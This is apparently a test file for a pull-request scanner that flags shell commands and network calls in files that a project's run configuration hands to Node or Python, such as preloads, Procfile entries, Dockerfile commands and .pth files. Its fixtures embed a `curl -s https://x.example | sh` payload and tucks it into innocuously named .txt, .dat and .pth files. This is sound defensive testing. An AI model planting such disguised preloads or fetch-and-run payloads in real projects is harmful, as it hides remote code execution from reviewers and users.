import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { namedByCommand, shellCommands } from "../../core/scan/launched";
import { FakeGitHub } from "../action/fake-github";
import { runBuiltCli, tempDir } from "../helpers/cli";
import { errorRules, gate, pullRequest, scanAnnotations as annotations } from "./pr";

// Node runs any file but `.json`/`.node` as JavaScript and Python any file as Python: a file the project's run
// configuration names by its path (a package.json script, .npmrc's node-options, a Procfile, a Dockerfile, a
// package's `main`) is the agent's code whatever its name says. Without this a pull request put its call in
// `assets/banner.txt` and `node -r ./assets/banner.txt agent.js` ran it.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

function write(dir: string, file: string, text: string) {
  mkdirSync(join(dir, file, ".."), { recursive: true });
  writeFileSync(join(dir, file), text);
}

const SHELL_JS = 'require("child_process").exec("curl -s https://x.example | sh");\n';
const packageJson = (scripts: Record<string, string>, more: Record<string, unknown> = {}) => JSON.stringify({ name: "agent", private: true, scripts, ...more }, null, 2);

/** `check DIR` as JSON: "file:line:column rule" of each finding, sorted. */
function check(dir: string, ...args: string[]) {
  const r = runBuiltCli(["check", dir, "--only", "scan", "--format", "json", ...args]);
  const findings = (JSON.parse(r.stdout) as { findings: { rule: string; file: string; line: number; column: number }[] }).findings;
  return { code: r.code, findings: findings.map((f) => `${f.file}:${f.line}:${f.column} ${f.rule}`).sort() };
}

describe("scan/shell-command in files the project's run configuration hands to Node or Python", () => {
  it("scan/shell-command: a preload named by a package.json script, a file of any name, fails the built Action", async () => {
    const pr = await pullRequest((dir) => {
      write(dir, "assets/banner.txt", SHELL_JS);
      write(dir, "package.json", packageJson({ start: "cross-env NODE_ENV=production node -r ./assets/banner.txt agent/index.js" }));
    });
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([1, ["scan/shell-command"]]);
    expect(annotations(r.commands)).toEqual(["scan/shell-command assets/banner.txt 1 1"]);
  });

  it("scan/shell-command: a change to the script line alone judges the old file it now names (built Action)", async () => {
    const pr = await pullRequest(
      (dir) => write(dir, "package.json", packageJson({ start: "NODE_OPTIONS='--require ./notes/setup.txt' node agent/index.js" })),
      (dir) => {
        write(dir, "notes/setup.txt", SHELL_JS);
        write(dir, "package.json", packageJson({ start: "node agent/index.js" }));
      },
    );
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command notes/setup.txt 1 1"]]);
    // `--new-only` too: the file is new to what runs, though none of its lines changed.
    const newOnly = runBuiltCli(["check", pr.dir, "--base", pr.base, "--changed-only", "--new-only", "--only", "scan", "--format", "json"]);
    expect([newOnly.code, (JSON.parse(newOnly.stdout).findings as { file: string; line: number }[]).map((f) => `${f.file}:${f.line}`)]).toEqual([1, ["notes/setup.txt:1"]]);
  });

  it("scan/shell-command: a change to a file .npmrc's node-options preloads, the manifest unchanged, fails the built Action", async () => {
    const pr = await pullRequest(
      (dir) => write(dir, "lib/hooks.dat", `// hooks\n${SHELL_JS}`),
      (dir) => {
        write(dir, ".npmrc", "save-exact=true\nnode-options = \"--require ./lib/hooks.dat\"\n");
        write(dir, "lib/hooks.dat", "// hooks\n");
      },
    );
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands)]).toEqual([1, ["scan/shell-command lib/hooks.dat 2 1"]]);
  });

  it("scan/shell-command, scan/network-call: Procfile, Dockerfile, shell script, Makefile, an env file's NODE_OPTIONS and a package's main and bin, in a whole-tree check", () => {
    const dir = tempDir();
    write(dir, "Procfile", "web: node server.js\nworker: python3 -u jobs/run.dat --fast\n");
    write(dir, "jobs/run.dat", "import os\n\nos.system('id')\n");
    write(dir, "deploy/Dockerfile", 'FROM node:20\nWORKDIR /app\nCMD ["node", "--enable-source-maps", "boot.cjs.txt"]\nRUN apt-get update && \\\n  node \\\n  prepare.txt\n');
    write(dir, "deploy/boot.cjs.txt", "fetch('https://x.example');\n");
    write(dir, "deploy/prepare.txt", `\n${SHELL_JS}`);
    write(dir, "pkg/package.json", JSON.stringify({ name: "pkg", main: "lib/entry", bin: { tool: "tool.txt" }, exports: { ".": { require: "./lib/entry" } } }));
    write(dir, "pkg/lib/entry", SHELL_JS);
    write(dir, "pkg/tool.txt", "#!/usr/bin/env python3\nimport subprocess\nsubprocess.run(['id'])\n");
    write(dir, "scripts/serve.sh", "#!/bin/sh\n# node scripts/commented.txt\nset -e\nexec python3 \"scripts/worker.txt\" \"$@\" # node scripts/commented.txt\n");
    write(dir, "scripts/worker.txt", "import socket\nsocket.create_connection(('x.example', 80))\n");
    write(dir, "scripts/commented.txt", SHELL_JS);
    write(dir, "Makefile", "run:\n\t@node tools/make.txt\n# node scripts/commented.txt\nnode scripts/commented.txt: not a recipe\n");
    write(dir, "tools/make.txt", SHELL_JS);
    // `node --env-file=.env.production` applies it, and every Node a process with it set starts.
    write(dir, ".env.production", "API_URL=https://api.example\nexport NODE_OPTIONS='--max-old-space-size=4096 --require ./boot/preload.txt'\n");
    write(dir, "boot/preload.txt", SHELL_JS);
    expect(check(dir)).toEqual({
      code: 1,
      findings: [
        "boot/preload.txt:1:1 scan/shell-command",
        "deploy/boot.cjs.txt:1:1 scan/network-call",
        "deploy/prepare.txt:2:1 scan/shell-command",
        "jobs/run.dat:3:1 scan/shell-command",
        "pkg/lib/entry:1:1 scan/shell-command",
        "pkg/tool.txt:3:1 scan/shell-command",
        "scripts/worker.txt:2:1 scan/network-call",
        "tools/make.txt:1:1 scan/shell-command",
      ],
    });
  });

  it("scan/shell-command is clean for what no command runs as a file: inline code, modules by name, packages, data, links out", async () => {
    const pr = await pullRequest((dir) => {
      for (const f of ["notes/a.txt", "notes/b.txt", "notes/c.txt", "notes/d.json", "notes/e.txt"]) write(dir, f, SHELL_JS);
      symlinkSync("/etc/hostname", join(dir, "notes/outside.txt"));
      write(
        dir,
        "package.json",
        packageJson({
          inline: 'node -e "console.log(1)" notes/a.txt',
          module: "python3 -m notes.b notes/b.txt",
          preload: "node -r dotenv/config -r notes/c.txt agent/index.js",
          data: "node notes/d.json",
          print: "cat notes/e.txt && echo notes/e.txt",
          outside: "node notes/outside.txt",
        }),
      );
    });
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([0, []]);
  });

  it("scan/skipped-file: a manifest over the size limit cannot be read for what it runs (fails closed)", () => {
    const dir = tempDir();
    write(dir, ".flowgate.yml", "limits:\n  max-file-bytes: 200\n");
    write(dir, "package.json", packageJson({ start: "node -r ./x.txt a.js" }, { description: "x".repeat(300) }));
    write(dir, "small/package.json", packageJson({ start: "node a.js" }));
    expect(check(dir)).toEqual({ code: 1, findings: ["package.json:1:1 scan/skipped-file"] });
  });

  it("scan/shell-command: a .pth file's import lines (run by `site.addsitedir`, or from a committed virtualenv) fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      write(dir, "agent/site/fonts.pth", "# font paths\n../fonts\nimport os; os.system('curl -s https://x.example | sh')\n");
      write(dir, "agent/main.py", "import os\nimport site\n\nsite.addsitedir(os.path.join(os.path.dirname(__file__), 'site'))\n");
      write(dir, ".venv/lib/python3.11/site-packages/_virtualenv.pth", "import\tsubprocess; subprocess.run(['id'])\n");
      // Only a line starting with `import` runs: the rest are paths, however code-like.
      write(dir, "agent/site/paths.pth", "os.system('x')\n  import os; os.system('x')\nimportant; os.system('x')\n");
    });
    const r = await gate(api, pr);
    expect([r.code, annotations(r.commands).sort()]).toEqual([
      1,
      ["scan/shell-command .venv/lib/python3.11/site-packages/_virtualenv.pth 1 20", "scan/shell-command agent/site/fonts.pth 3 12"],
    ]);
  });

  it("scan/shell-command: a package.json nesting its exports 200,000 deep is read to its end (no stack overflow, exit 1 not 3)", () => {
    const dir = tempDir();
    const depth = 200_000;
    write(dir, "package.json", `{"name":"x","exports":${'{"a":'.repeat(depth)}"./deep.txt"${"}".repeat(depth)},"imports":{"#d":${"[".repeat(depth)}"./deep.txt"${"]".repeat(depth)}}}`);
    write(dir, "deep.txt", SHELL_JS);
    expect(check(dir)).toEqual({ code: 1, findings: ["deep.txt:1:1 scan/shell-command"] });
  });

  it("scan/skipped-file: a manifest naming more than 10,000 files for Node or Python is not looked through (fails closed)", () => {
    const dir = tempDir();
    write(dir, "package.json", packageJson({ many: Array.from({ length: 10_001 }, (_, i) => `node f${i}.txt`).join("; ") }));
    write(dir, "f0.txt", SHELL_JS);
    const r = runBuiltCli(["check", dir, "--only", "scan", "--format", "json"]);
    expect([r.code, (JSON.parse(r.stdout).findings as { rule: string; file: string; message: string }[]).map((f) => `${f.file} ${f.rule} ${f.message}`)]).toEqual([
      1,
      ["package.json scan/skipped-file Not scanned: it names more than 10000 files for Node or Python to run, which are not looked for."],
    ]);
  });

  it("reads the files a command line hands to Node or Python", () => {
    const named = (line: string) => [...shellCommands(line)].flatMap(namedByCommand);
    expect(named("NODE_ENV=prod node --enable-source-maps -r ./a.txt --require=./b.txt --import ./c.txt d.txt --flag e.txt")).toEqual([
      { path: "./a.txt", grammar: "javascript" },
      { path: "./b.txt", grammar: "javascript" },
      { path: "./c.txt", grammar: "javascript" },
      { path: "d.txt", grammar: "javascript" },
    ]);
    expect(named("npm run build && npx tsx 'src dir/main.txt'; deno run -A tool.txt | bun run x.txt")).toEqual([
      { path: "src dir/main.txt", grammar: "typescript" },
      { path: "tool.txt", grammar: "typescript" },
      { path: "x.txt", grammar: "javascript" },
    ]);
    expect(named("poetry run python3.11 -W ignore -X dev -u jobs/run.dat arg; pypy3 -- -x.dat; $(nodemon w.txt)")).toEqual([
      { path: "jobs/run.dat", grammar: "python" },
      { path: "-x.dat", grammar: "python" },
      { path: "w.txt", grammar: "javascript" },
    ]);
    expect(named("node -p 1 a.txt; python -c 'x' b.txt; python -um mod c.txt; node -r pkg; echo; NODE_OPTIONS=--inspect node")).toEqual([]);
    expect(named("# node a.txt\necho x # node b.txt\necho a#b; node c.txt")).toEqual([{ path: "c.txt", grammar: "javascript" }]);
    // The first runner in a command counts whatever comes before it (wrappers are many: `cross-env`, `uv run`, `time`).
    expect(named("echo a#b node d.txt; node $DIR/e.txt $(node f.txt)")).toEqual([
      { path: "d.txt", grammar: "javascript" },
      { path: "$DIR/e.txt", grammar: "javascript" },
      { path: "f.txt", grammar: "javascript" },
    ]);
  });
});
